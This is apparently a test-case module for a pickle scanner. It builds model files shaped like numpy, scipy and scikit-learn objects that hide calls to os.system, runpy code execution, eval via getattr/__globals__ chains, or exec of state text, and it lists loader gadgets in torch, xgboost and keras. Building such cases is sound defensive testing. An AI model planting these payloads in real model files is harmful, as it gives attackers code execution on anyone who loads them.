"""Genuine-looking models with a twist: numpy, scipy and scikit-learn shapes whose content does more than it should."""

from asm import (
    BUILD,
    EMPTY_TUPLE,
    POP,
    PY,
    REDUCE,
    SH,
    Ops,
    call,
    drop,
    framed,
    get,
    method,
    named,
    new,
    partial,
    push,
    put,
    tup,
)
from cases import elsewhere, runs
from shapes import array, doubles, dtype, estimator, object_array, pipeline, scaler

TECHNIQUE = "models"
SYSTEM = named("os system")
PAYLOAD = call("os system", SH)
NUMPY, SCIPY, SKLEARN = {"needs": ["numpy"]}, {"needs": ["scipy", "numpy"]}, {"needs": ["sklearn", "numpy"]}
RUN_CODE = partial("runpy _run_code", PY, {}, None, "m", None)


def hidden():
    """The payload sits where a genuine value would be."""
    yield runs("scaler_attribute_call", framed(scaler(mean_=PAYLOAD)), "os.system", **SKLEARN)
    yield runs("scaler_extra_attribute", framed(scaler(notes_=PAYLOAD)), "os.system", **SKLEARN)
    yield runs(
        "scaler_version_field",
        framed(new("sklearn.preprocessing._data StandardScaler"), push({"_sklearn_version": PAYLOAD}), BUILD),
        "os.system",
        **SKLEARN,
    )
    yield runs("pipeline_step", framed(pipeline(("a", scaler()), ("b", PAYLOAD))), "os.system", **SKLEARN)
    yield runs(
        "pipeline_then_popped",
        framed(drop(PAYLOAD), pipeline(("a", scaler()))),
        "os.system",
        "loads as a working pipeline",
        proof="marker",
        **SKLEARN,
    )
    yield runs("object_array_item", framed(object_array("a", PAYLOAD)), "os.system", **NUMPY)
    yield runs(
        "array_shape",
        framed(
            call("numpy._core.multiarray _reconstruct", named("numpy ndarray"), (0,), b"b"),
            push((1, (1,), dtype(), False, doubles(0.5))),
            BUILD,
            put(1),
            POP,
            PAYLOAD,
            POP,
            get(1),
        ),
        "os.system",
        **NUMPY,
    )
    yield runs(
        "array_data",
        framed(
            call("numpy._core.multiarray _reconstruct", named("numpy ndarray"), (0,), b"b"),
            push((1, (PAYLOAD,), dtype(), False, b"")),
            BUILD,
        ),
        "os.system",
        "the shape is what the call returns: 0",
        **NUMPY,
    )
    yield runs(
        "dtype_argument", framed(call("numpy dtype", "f8", PAYLOAD, True)), "os.system", "the flag is a call", **NUMPY
    )
    yield runs(
        "dtype_metadata",
        framed(call("numpy dtype", {"names": ["a"], "formats": ["f8"], "titles": [PAYLOAD]})),
        "os.system",
        **NUMPY,
    )
    yield runs(
        "scalar_bytes",
        framed(call("numpy._core.multiarray scalar", dtype(), doubles(0.5)), POP, call("operator call", SYSTEM, SH)),
        "operator.call",
        **NUMPY,
    )
    yield runs(
        "sparse_matrix_attribute",
        framed(
            new("scipy.sparse._csr csr_matrix"),
            push({"_shape": (1, 1), "maxprint": 50, "data": array(doubles(1.0), (1,)), "indices": PAYLOAD}),
            BUILD,
        ),
        "os.system",
        **SCIPY,
    )
    yield runs(
        "bunch_item", framed(new("sklearn.utils._bunch Bunch"), push("a"), PAYLOAD, Ops(b"s")), "os.system", **SKLEARN
    )
    yield runs(
        "random_state_argument",
        framed(
            call(
                "numpy.random._pickle __randomstate_ctor",
                call("numpy.random._pickle __bit_generator_ctor", named("numpy.random._mt19937 MT19937")),
            ),
            put(1),
            POP,
            PAYLOAD,
            POP,
            get(1),
        ),
        "os.system",
        **NUMPY,
    )
    yield runs(
        "getattr_class_chain",
        framed(
            call(
                call(
                    "builtins getattr",
                    call("builtins getattr", pipeline(("a", scaler())), "__class__"),
                    "__subclasses__",
                )
            )
        ),
        "builtins.getattr",
        "the chain to all classes starts at an estimator",
        proof="result:[",
        **SKLEARN,
    )
    globals_of = call(
        "builtins getattr", call("builtins getattr", named("sklearn.pipeline Pipeline"), "fit"), "__globals__"
    )
    yield runs(
        "getattr_globals_chain",
        framed(
            call(
                "operator getitem",
                call("builtins getattr", call("operator getitem", globals_of, "__builtins__"), "copy")
                + EMPTY_TUPLE
                + REDUCE,
                "eval",
            ),
            tup(PY),
            REDUCE,
        ),
        "builtins.getattr|sklearn.pipeline.Pipeline",
        **SKLEARN,
    )


def attributes():
    """A dangerous function is only named; it is called when the model is used."""
    transformer = "sklearn.preprocessing._function_transformer FunctionTransformer"
    base = dict(
        inverse_func=None,
        validate=False,
        accept_sparse=False,
        check_inverse=False,
        feature_names_out=None,
        kw_args=None,
        inv_kw_args=None,
    )
    yield runs(
        "function_transformer",
        framed(method(estimator(transformer, func=SYSTEM, **base), "transform", SH)),
        "os.system",
        "used in the same file to show it",
        **SKLEARN,
    )
    yield runs(
        "function_transformer_named",
        framed(estimator(transformer, func=SYSTEM, **base)),
        "os.system",
        "runs at transform()",
        proof="result:system",
        expect="import-dangerous",
        **SKLEARN,
    )
    yield runs(
        "pipeline_of_transformer",
        framed(pipeline(("a", scaler()), ("b", estimator(transformer, func=SYSTEM, **base)))),
        "os.system",
        "runs at predict()",
        proof="result:built-in function system",
        expect="import-dangerous",
        **SKLEARN,
    )
    yield runs(
        "tfidf_tokenizer",
        framed(
            method(
                estimator(
                    "sklearn.feature_extraction.text CountVectorizer",
                    tokenizer=SYSTEM,
                    input="content",
                    encoding="utf-8",
                    decode_error="strict",
                    strip_accents=None,
                    preprocessor=None,
                    analyzer="word",
                    lowercase=False,
                    token_pattern=None,
                    stop_words=None,
                    ngram_range=(1, 1),
                    max_df=1.0,
                    min_df=1,
                    max_features=None,
                    vocabulary=None,
                    binary=False,
                    dtype=named("numpy float64"),
                ),
                "fit",
                [SH],
            )
        ),
        "os.system",
        **SKLEARN,
    )
    yield runs(
        "estimator_predict_attribute",
        framed(method(scaler(predict=SYSTEM), "predict", SH)),
        "os.system",
        "the instance hides the method",
        **SKLEARN,
    )
    yield runs(
        "partial_scorer",
        framed(partial(SYSTEM, SH)),
        "os.system",
        "only the victim's call is missing",
        proof="result:functools.partial",
        expect="import-dangerous",
    )
    distance = call("sklearn.metrics._dist_metrics newObj", named("sklearn.metrics._dist_metrics PyFuncDistance64"))
    distance += push((0.0, array(b"", (0,)), array(b"", (0, 0)), RUN_CODE, {})) + BUILD
    yield runs(
        "py_func_distance",
        framed(method(distance, "pairwise", array(doubles(0.5, 1.5), (2, 1)))),
        "runpy._run_code",
        "a genuine metric with a function in its state",
        **SKLEARN,
    )


def scipy_shapes():
    norm = "scipy.stats._continuous_distns norm_gen"
    template = "\n".join(
        f"def {name}(self, *a): pass" for name in ("_parse_args", "_parse_args_rvs", "_parse_args_stats")
    )
    for name, kind in (
        ("continuous", norm),
        ("discrete", "scipy.stats._discrete_distns poisson_gen"),
        ("base", "scipy.stats._distn_infrastructure rv_continuous"),
    ):
        yield runs(
            f"scipy_template_{name}",
            framed(
                new(kind), push({"_parse_arg_template": template + "\n" + PY, "numargs": 0, "moment_type": 1}), BUILD
            ),
            kind,
            "rv_generic._attach_argparser_methods: exec of text from the state; no " "dangerous name is in the file",
            **SCIPY,
        )
    yield runs(
        "scipy_attach_methods",
        framed(new(norm), push({"_attach_methods": partial(SYSTEM, SH)}), BUILD),
        "os.system",
        "__setstate__ calls what the state brought",
        **SCIPY,
    )
    # A frozen distribution holds the distribution; the text is two levels down.
    inner = new(norm) + push({"_parse_arg_template": template + "\n" + PY, "numargs": 0, "moment_type": 1}) + BUILD
    yield runs(
        "scipy_frozen",
        framed(
            new("scipy.stats._distn_infrastructure rv_continuous_frozen"),
            push({"args": (), "kwds": {}, "dist": inner, "a": 0.0, "b": 1.0}),
            BUILD,
        ),
        norm,
        **SCIPY,
    )
    yield runs(
        "scipy_in_search",
        framed(
            estimator(
                "sklearn.model_selection._search RandomizedSearchCV",
                param_distributions={
                    "C": new("scipy.stats._distn_infrastructure rv_continuous_frozen")
                    + push({"args": (), "kwds": {}, "dist": inner})
                    + BUILD
                },
            )
        ),
        norm,
        "where a genuine search keeps its distributions",
        needs=["scipy", "sklearn", "numpy"],
    )


def away():
    yield elsewhere(
        "legacy_randomstate",
        framed(call("numpy.random._pickle __randomstate_ctor", "MT19937", SYSTEM)),
        "os.system",
        "numpy 1.24-1.26: numpy/random/_pickle.py calls its second argument",
    )
    yield elsewhere(
        "torch_rebuild_from_type",
        framed(call("torch._tensor _rebuild_from_type_v2", SYSTEM, named("builtins int"), (SH,), None)),
        "torch._tensor._rebuild_from_type_v2",
        "torch/_tensor.py: calls its first argument",
    )
    yield elsewhere(
        "xgboost_load",
        framed(method(call("xgboost.core Booster"), "load_model", "other.json")),
        "xgboost.core.Booster",
        "xgboost/core.py, Booster.load_model reads a file",
    )
    yield elsewhere(
        "keras_lambda",
        framed(call("keras.src.layers.core.lambda_layer Lambda", PY)),
        "keras.src.layers.core.lambda_layer.Lambda",
        "keras lambda_layer.py: marshalled code",
    )


def cases():
    for part in (hidden, attributes, scipy_shapes, away):
        yield from part()
